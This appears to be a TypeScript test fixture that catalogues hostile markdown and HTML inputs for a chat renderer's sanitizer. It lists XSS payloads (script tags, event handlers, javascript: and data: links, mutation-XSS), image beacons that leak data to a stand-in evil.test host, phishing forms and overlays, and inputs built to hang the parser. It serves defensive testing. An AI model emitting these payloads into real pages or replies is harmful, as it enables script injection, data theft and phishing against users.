/*
 * What a model, or a document that it was shown, might write to run script, to load something from elsewhere, to leave
 * the page or to hang it. `evil.test` never exists; a script that ran would set `globalThis.broken` or open a dialog.
 */
export interface Hostile { name: string; text: string }

const ran = 'globalThis.broken=1;alert(1)';
const escaped = 'globalThis.broken=1';
const named = (group: string, texts: readonly string[]): Hostile[] => texts.map((text, n) => ({ name: `${group} ${n + 1}`, text }));

const scripts = [
  `<script>${ran}</script>`, `<SCRIPT SRC=https://evil.test/x.js></SCRIPT>`, `<script\n>${ran}</script\n>`, `<scr<script>ipt>${ran}</scr</script>ipt>`, `before <script>${ran}</script> after`,
  `<script type="module">import "https://evil.test/x.js"</script>`, `<noscript><p title="</noscript><img src=x onerror=${escaped}>">`, `<template><script>${ran}</script></template>`,
  `\`\`\`html\n<script>${ran}</script>\n\`\`\``, `\`<script>${ran}</script>\``, `- <script>${ran}</script>`, `> <script>${ran}</script>`, `| a |\n| - |\n| <script>${ran}</script> |`, `# <script>${ran}</script>`,
  `<![CDATA[<script>${ran}</script>]]>`, `<?xml version="1.0"?><script>${ran}</script>`, `<!DOCTYPE html><script>${ran}</script>`, `&lt;script&gt;${ran}&lt;/script&gt;`, `&#60;script&#62;${ran}&#60;/script&#62;`,
  `\\<script>${ran}\\</script>`, `<script>/* **bold** [x](javascript:alert(1)) */${ran}`,
];
const handlers = [
  `<img src=x onerror=${escaped}>`, `<img src="x" onerror="${ran}" />`, `<svg onload=${escaped}>`, `<body onload=${escaped}>`, `<div onmouseover="${ran}">hover</div>`, `<details open ontoggle=${escaped}>x</details>`,
  `<input autofocus onfocus=${escaped}>`, `<video><source onerror="${ran}"></video>`, `<audio src=x onerror=${escaped}>`, `<marquee onstart=${escaped}>x</marquee>`, `<a href="#" onclick="${ran}">click</a>`, `<p onpointerenter=${escaped}>x`,
  `![x](x "onerror=${escaped}")`, `![x" onerror="${escaped}](x)`, `[x](https://evil.test "onclick=${escaped}")`, `<button onclick="${ran}">Stop</button>`, `<style onload=${escaped}></style>`, `<x onanimationstart=${escaped} style="animation:blink 1s">`,
];
const links = [
  `[x](javascript:${escaped})`, `[x](JaVaScRiPt:${escaped})`, `[x](java\nscript:${escaped})`, `[x](<java\tscript:${escaped}>)`, `[x](javascript&colon;${escaped})`, `[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${escaped})`,
  `[x](&#x6A;avascript:${escaped})`, `[x](%6Aavascript:${escaped})`, `[x]( javascript:${escaped})`, `[x](\u0001javascript:${escaped})`, `[x](javascript://https://evil.test/%0A${escaped})`, `[x](vbscript:msgbox(1))`,
  `[x](data:text/html,<script>${escaped}</script>)`, `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`, `[x](file:///etc/passwd)`, `[x](blob:https://evil.test/1)`, `[x](//evil.test/x)`, `[x](/api/system/update-password)`, `[x](\\\\evil.test\\x)`,
  `[x](feed:javascript:${escaped})`, `[x](view-source:javascript:${escaped})`, `<javascript:${escaped}>`, `<JAVASCRIPT:alert(1)>`, `[a]: javascript:${escaped}\n\n[a]`, `[x][a]\n\n[a]: <javascript:${escaped}> "t"`, `[x](https://evil.test){target=_top}`,
  `<a href="javascript:${escaped}">x</a>`, `<a href="https://evil.test" target="_top">x</a>`, `www.evil.test`, `https://evil.test/?a=<script>${escaped}</script>`, `javascript:${escaped}`, `mailto:a@evil.test?subject=x`, `[x](mailto:a@evil.test?body=%3Cscript%3E)`,
  `[x](tel:+4912345)`, `[x](#user-content-x)`, `[x](?logout)`, `[![x](https://evil.test/p.png)](javascript:${escaped})`, `[\u202Etxet\u202C](https://evil.test)`, `[https://bank.example](https://evil.test)`, `[x](https:evil.test)`, `[x](ht\u200Btps://evil.test)`,
];
const pictures = [
  '![x](https://evil.test/p.png)', '![x](http://evil.test/p.png?leak=secret)', '![x](//evil.test/p.png)', '![x](data:image/svg+xml,<svg onload=alert(1)>)', '![x](data:image/png;base64,iVBORw0KGgo=)', '![][p]\n\n[p]: https://evil.test/p.png',
  '![x](https://evil.test/p.png "title")', '<img src="https://evil.test/p.png">', '<img srcset="https://evil.test/p.png 1x">', '<picture><source srcset=https://evil.test/p.png><img></picture>', '<div style="background:url(https://evil.test/p.png)">x</div>',
  '<video poster=https://evil.test/p.png></video>', '<svg><image href="https://evil.test/p.png"/></svg>', '<input type=image src=https://evil.test/p.png>', '<table background="https://evil.test/p.png"><tr><td>x</table>', '![a![b](https://evil.test/q.png)](https://evil.test/p.png)',
  '![x](javascript:globalThis.broken=1)', '![x](/api/system/logo)', '<link rel=prefetch href=https://evil.test/p.png>', '<body background=https://evil.test/p.png>',
];
const markup = [
  '<iframe src="https://evil.test"></iframe>', '<iframe srcdoc="<script>parent.broken=1</script>"></iframe>', '<object data="https://evil.test/x.swf"></object>', '<embed src="https://evil.test/x.svg">', '<form action="https://evil.test"><input name=password><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">', '<base href="https://evil.test/">', '<base target="_top">', '<link rel="stylesheet" href="https://evil.test/x.css">', '<style>@import url(https://evil.test/x.css); .composer{display:none}</style>', '<style>body{background:url(https://evil.test/p.png)}</style>',
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</div>', '<math><mtext><table><mglyph><style><img src=x onerror=globalThis.broken=1></style></mglyph></table></mtext></math>', '<math href="javascript:globalThis.broken=1">x</math>', '<svg><a xlink:href="javascript:globalThis.broken=1"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:globalThis.broken=1 /><a id=x><text>y</text></a></svg>', '<svg><foreignObject><iframe src=https://evil.test></iframe></foreignObject></svg>', '<svg><use href="https://evil.test/x.svg#a"/></svg>', '<frameset><frame src=https://evil.test></frameset>', '<portal src=https://evil.test></portal>',
  '<dialog open>Your session is over</dialog>', '<input type="text" id="root" name="root">', '<a id=location href=https://evil.test>x</a><a id=location name=assign>', '<textarea>unclosed', '<plaintext>', '<xmp><script>globalThis.broken=1</script></xmp>', '<isindex action=https://evil.test>', '<title>gone</title>',
  '<!-- <img src=x onerror=globalThis.broken=1> -->', '<!--[if gte IE 4]><script>globalThis.broken=1</script><![endif]-->', '<!-- unclosed', '--!><img src=x onerror=globalThis.broken=1>', '<div>\n\n**bold** <img src=x onerror=globalThis.broken=1>\n\n</div>', '<cite-mark number="1" words="x">1</cite-mark>', '<cite-mark onclick="globalThis.broken=1">',
];
const formulas = [
  '$\\href{javascript:globalThis.broken=1}{x}$', '$\\href{https://evil.test}{x}$', '$\\url{https://evil.test}$', '$\\includegraphics[width=1em]{https://evil.test/p.png}$', '$\\htmlClass{composer}{x}$', '$\\htmlId{root}{x}$', '$\\htmlStyle{position:fixed;inset:0}{x}$', '$\\htmlData{a=b}{x}$',
  '$$\n\\href{javascript:globalThis.broken=1}{\\text{click}}\n$$', '$\\def\\a{\\a\\a}\\a$', '$\\newcommand{\\x}{\\x\\x}\\x$', '$\\text{<img src=x onerror=globalThis.broken=1>}$', '$\\unknown{<script>globalThis.broken=1</script>}$', '$\\rule{100000em}{100000em}$', '$$\n\\begin{matrix} a & b \\\\ c', `$${'{'.repeat(400)}x${'}'.repeat(400)}$`,
  '$\\color{red;background:url(https://evil.test/p.png)}{x}$', `$$\n${'\\frac{1}{'.repeat(60)}x${'}'.repeat(60)}\n$$`, '```math\n\\href{javascript:globalThis.broken=1}{x}\n```',
];
const constructs = [
  'Text[^1]\n\n[^1]: <script>globalThis.broken=1</script>', '[^x]: [y](javascript:globalThis.broken=1)\n\nSee[^x]', '```mermaid\ngraph TD; A[<img src=x onerror=globalThis.broken=1>]-->B; click A "javascript:globalThis.broken=1"\n```', '```svg\n<svg onload=globalThis.broken=1>\n```', '```"><script>globalThis.broken=1</script>\nx\n```',
  '~~~js" onload="globalThis.broken=1\nx', '```constructor\nx\n```', '```__proto__\nx\n```', '`````\n```\n<script>globalThis.broken=1</script>', '- [ ] <input onfocus=globalThis.broken=1>\n- [x] done', '| a |\n| - |\n| ![x](https://evil.test/p.png) |', '[1](javascript:globalThis.broken=1) [2][1] [1]', '[1]: javascript:globalThis.broken=1\n\nSee [1].',
  '\u202E\u2066reversed\u2069\u202C <script>globalThis.broken=1</script>', '\u0000<scr\u0000ipt>globalThis.broken=1</script>', '\uFEFF<img src=x onerror=globalThis.broken=1>', '\uD800 half of a pair ![x](https://evil.test/p.png)', '&NewLine;&Tab;[x](java&Tab;script:globalThis.broken=1)', '{{constructor.constructor("globalThis.broken=1")()}}', '${globalThis.broken=1}',
  '***unclosed **everything [here](https://evil.test', '<https://evil.test/"onmouseover="globalThis.broken=1>', ':::warning{onclick=globalThis.broken=1}\nx\n:::', '[toString]: https://evil.test\n\n[__proto__]: https://evil.test\n\n[toString] [__proto__] [constructor]', '\\[x\\](javascript:globalThis.broken=1)', 'a\r\n<script>\r\nglobalThis.broken=1\r\n</script>',
];
/** Little by itself, much in this number. */
const large: Hostile[] = ([
  ['quotes in quotes', '>'.repeat(3_000)], ['quotes in quotes with words', `${'> '.repeat(3_000)}x`], ['lists in lists', Array.from({ length: 400 }, (_, n) => `${'  '.repeat(n)}- x`).join('\n')], ['lists in lists in one line', `${'- '.repeat(3_000)}x`], ['numbered in one line', `${'1. '.repeat(2_000)}x`],
  ['open brackets', '['.repeat(20_000)], ['open pictures', '!['.repeat(10_000)], ['brackets', `${'['.repeat(3_000)}x${']'.repeat(3_000)}`], ['links in links', `${'['.repeat(500)}x${'](https://evil.test)'.repeat(500)}`], ['stars', '*'.repeat(20_000)], ['stars and words', '*a '.repeat(8_000)], ['stars and underscores', '*_'.repeat(5_000)], ['emphasis in emphasis', `${'*a **a '.repeat(1_500)}x${'** *'.repeat(1_500)}`],
  ['backticks', Array.from({ length: 300 }, (_, n) => '`'.repeat(n)).join(' ')], ['dollars', '$'.repeat(10_000)], ['tildes', '~'.repeat(10_000)], ['angles', '<'.repeat(20_000)], ['open tags', '<div>'.repeat(5_000)], ['comments', '<!--'.repeat(5_000)], ['entities', '&#'.repeat(20_000)], ['parentheses', `[x](${'('.repeat(10_000)}`], ['pipes', `${'|'.repeat(3_000)}\n${'|-'.repeat(1_500)}|\n${'|x'.repeat(1_500)}`],
  ['rows', `| a | b |\n| - | - |\n${'| x | y |\n'.repeat(1_000)}`], ['one long line', 'word '.repeat(40_000)], ['one long word', 'x'.repeat(200_000)], ['long code', `\`\`\`js\n${'const a = "b"; // c\n'.repeat(2_000)}`], ['long address', `https://evil.test/${'a'.repeat(50_000)}`], ['addresses', 'www.evil.test '.repeat(2_000)], ['mail addresses', 'a@'.repeat(10_000)], ['references', Array.from({ length: 1_000 }, (_, n) => `[r${n}]: https://evil.test/${n}\n`).join('\n')],
  ['footnotes', Array.from({ length: 300 }, (_, n) => `x[^${n}]\n\n[^${n}]: y`).join('\n\n')], ['marks', '[1]'.repeat(3_000)], ['headings', '#'.repeat(20_000)], ['empty lines', '\n'.repeat(50_000)], ['paragraphs', 'x\n\n'.repeat(3_000)], ['breaks', 'x  \n'.repeat(3_000)], ['formulas', '$x^2$ '.repeat(300)], ['backslashes', '\\'.repeat(50_000)],
] as const).map(([name, text]) => ({ name: `many: ${name}`, text }));

export const hostile: Hostile[] = [
  ...named('script', scripts), ...named('handler', handlers), ...named('link', links), ...named('picture', pictures), ...named('markup', markup), ...named('formula', formulas), ...named('construct', constructs), ...large,
];
export const small = hostile.filter(({ name }) => !name.startsWith('many:'));
